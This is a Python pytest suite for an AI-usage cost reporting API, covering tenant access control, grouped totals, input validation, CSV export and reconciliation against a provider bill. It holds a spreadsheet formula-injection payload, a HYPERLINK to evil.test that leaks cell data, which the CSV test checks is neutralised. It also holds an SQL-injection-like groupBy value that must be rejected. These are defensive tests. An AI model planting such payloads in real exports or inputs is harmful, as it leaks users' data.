"""Who sees which sums, what they come to, how they look in a spreadsheet, and whether a provider's bill agrees."""

import csv
import io
from datetime import UTC, datetime

import httpx
import pytest

from tests.api.served import Served
from tests.ledger_rows import book, row

# A month of its own: other tests' calls are booked today.
MONTH = {"from": "2025-03-01", "to": "2025-03-31"}
FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"x")'


def at(day: int, hour: int = 12) -> datetime:
    return datetime(2025, 3, day, hour, tzinfo=UTC)


@pytest.fixture(scope="module", autouse=True)
def booked(server: Served) -> None:
    rows = [
        row("acme", "ann", "big", 1_000, at(1)),
        row("acme", "ann", "big", 2_000, at(2, 23), estimated=True, feature=FORMULA),
        row("acme", "ann", "small", 30, at(2), outcome="failed"),
        row("acme", "al", "big", 400, at(2), attempt=2),
        row("acme", "al", "big", 9_999, at(3), state="open", outcome=""),
        row("umbrella", "eve", "big", 70_000, at(2)),
    ]
    server.call(book(server.bench.store, *rows))


def report(client: httpx.Client, **asked: str) -> dict[str, object]:
    answer = client.get("/api/ai/usage", params=MONTH | asked)
    assert answer.status_code == 200, answer.text
    found: dict[str, object] = answer.json()
    return found


def costs(client: httpx.Client, by: str, **asked: str) -> dict[object, int]:
    items: list[dict[str, int]] = report(client, groupBy=by, **asked)["items"]  # type: ignore[assignment]
    names = by.split(",")
    return {tuple(item[name] for name in names): item["costUsdMicros"] for item in items}


def test_a_user_sees_only_what_is_its_own(ann: httpx.Client, al: httpx.Client) -> None:
    assert costs(ann, "model") == {("big",): 3_000, ("small",): 30}
    assert costs(al, "user") == {("al",): 400}


def test_the_scope_runs_shows_the_whole_tenant_and_no_other(ada: httpx.Client, eve: httpx.Client) -> None:
    assert costs(ada, "tenant") == {("acme",): 3_430}
    assert costs(ada, "user") == {("ann",): 3_030, ("al",): 400}
    assert costs(eve, "tenant") == {("umbrella",): 70_000}


def test_the_owner_sees_all_tenants_and_may_choose_one(owner: httpx.Client) -> None:
    assert costs(owner, "tenant") == {("umbrella",): 70_000, ("acme",): 3_430}
    assert costs(owner, "user", tenantId="acme") == {("ann",): 3_030, ("al",): 400}


def test_nobody_else_may_name_another_tenant(ada: httpx.Client, ann: httpx.Client) -> None:
    for client in (ada, ann):
        for tenant in ("umbrella", "no-such-tenant"):
            answer = client.get("/api/ai/usage", params={"groupBy": "model", "tenantId": tenant})
            assert (answer.status_code, answer.json()["code"]) == (403, "forbidden")
    assert costs(ada, "model", tenantId="acme") == costs(ada, "model")


@pytest.mark.parametrize("by", ["tenant", "user", "feature", "model", "provider", "day", "run", "key", "outcome"])
def test_every_dimension_adds_up_to_the_same_total(ada: httpx.Client, by: str) -> None:
    found = report(ada, groupBy=by)
    assert found["total"]["costUsdMicros"] == 3_430  # type: ignore[index]
    assert sum(costs(ada, by).values()) == 3_430


def test_two_dimensions_are_crossed_within_whole_days(ada: httpx.Client) -> None:
    assert costs(ada, "day,model", **{"from": "2025-03-02", "to": "2025-03-02"}) == {
        ("2025-03-02", "big"): 2_400,
        ("2025-03-02", "small"): 30,
    }
    assert costs(ada, "day", **{"from": "2025-03-01T23:59:00Z", "to": "2025-03-02T00:00:00+01:00"}) == {
        ("2025-03-01",): 1_000
    }


def test_estimates_failures_and_retries_are_told_apart(ada: httpx.Client) -> None:
    total = report(ada, groupBy="model")["total"]
    assert total == {
        "calls": 3,
        "attempts": 4,
        "failed": 1,
        "cancelled": 0,
        "cached": 0,
        "inputTokens": 400,
        "outputTokens": 80,
        "cachedInputTokens": 0,
        "costUsdMicros": 3_430,
        "costUsd": 0.00343,
        "estimated": 1,
        "estimatedUsdMicros": 2_000,
    }


def test_a_limit_cuts_the_rows_and_not_the_total(ada: httpx.Client) -> None:
    found = report(ada, groupBy="model", limit="1")
    assert [item["model"] for item in found["items"]] == ["big"]  # type: ignore[attr-defined]
    assert (found["groups"], found["total"]["costUsdMicros"]) == (2, 3_430)  # type: ignore[index]


@pytest.mark.parametrize(
    ("asked", "field"),
    [
        ({"groupBy": "tenant,user,model"}, "groupBy"),
        ({"groupBy": "model,model"}, "groupBy"),
        ({"groupBy": "tenant_id;drop"}, "groupBy"),
        ({"groupBy": ""}, "groupBy"),
        ({"from": "yesterday"}, "from"),
        ({"limit": "0"}, "limit"),
        ({"format": "xlsx"}, "format"),
    ],
)
def test_what_cannot_be_reported_names_its_field(ada: httpx.Client, asked: dict[str, str], field: str) -> None:
    answer = ada.get("/api/ai/usage", params=MONTH | {"groupBy": "model"} | asked)
    assert answer.status_code == 422
    assert [error["field"] for error in answer.json()["errors"]] == [field]


def test_x08_a_formula_in_a_name_is_text_in_the_spreadsheet(ada: httpx.Client) -> None:
    answer = ada.get("/api/ai/usage", params=MONTH | {"groupBy": "feature,model", "format": "csv"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == (
        'attachment; filename="usage-feature-model-2025-03-01-2025-03-31.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [(line["feature"], line["model"], line["cost_micros"], line["cost_usd"]) for line in rows] == [
        (f"'{FORMULA}", "big", "2000", "0.002000"),
        ("search", "big", "1400", "0.001400"),
        ("search", "small", "30", "0.000030"),
    ]


def test_a_bill_agrees_or_says_which_day_does_not(owner: httpx.Client) -> None:
    export = "date,model,cost_usd\n2025-03-01,big,0.001\n2025-03-02,big,0.0724\n2025-03-02,small,0.02\n"
    found = owner.post("/api/ai/usage/reconcile", content=export, headers={"Content-Type": "text/csv"}).json()
    assert found["agrees"] is False
    assert (found["oursUsdMicros"], found["theirsUsdMicros"]) == (73_430, 93_400)
    assert [(line["day"], line["model"], line["differenceUsdMicros"]) for line in found["items"]] == [
        ("2025-03-01", "big", 0),
        ("2025-03-02", "big", 0),
        ("2025-03-02", "small", -19_970),
    ]
    assert [line["agrees"] for line in found["items"]] == [True, True, False]
    assert len(found["items"][1]["estimatedCalls"]) == 1


@pytest.mark.parametrize(("export", "status"), [(b"", 422), (b"a,b\n1,2\n", 422), (b"\xff\xfe\x00", 422)])
def test_what_is_no_bill_is_refused(owner: httpx.Client, export: bytes, status: int) -> None:
    assert owner.post("/api/ai/usage/reconcile", content=export).status_code == status


def test_only_the_owner_reconciles(ada: httpx.Client, ann: httpx.Client) -> None:
    for client in (ada, ann):
        assert client.post("/api/ai/usage/reconcile", content="date,model,cost_usd\n").status_code == 403
